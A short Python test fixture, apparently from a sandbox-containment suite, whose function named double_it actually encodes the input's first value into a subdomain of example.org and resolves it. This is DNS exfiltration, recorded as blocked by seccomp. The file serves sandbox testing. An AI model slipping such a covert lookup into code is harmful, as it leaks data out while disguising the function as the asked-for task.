"""Sends what it sees as a name to look up.

kata: 01_short/double_it
outcome: errored
error: exception
says: socket.gaierror
layer: seccomp
"""

import socket


def double_it(x):
    return socket.getaddrinfo(f"x{x.flatten()[0].item():.3f}.example.org", 80)
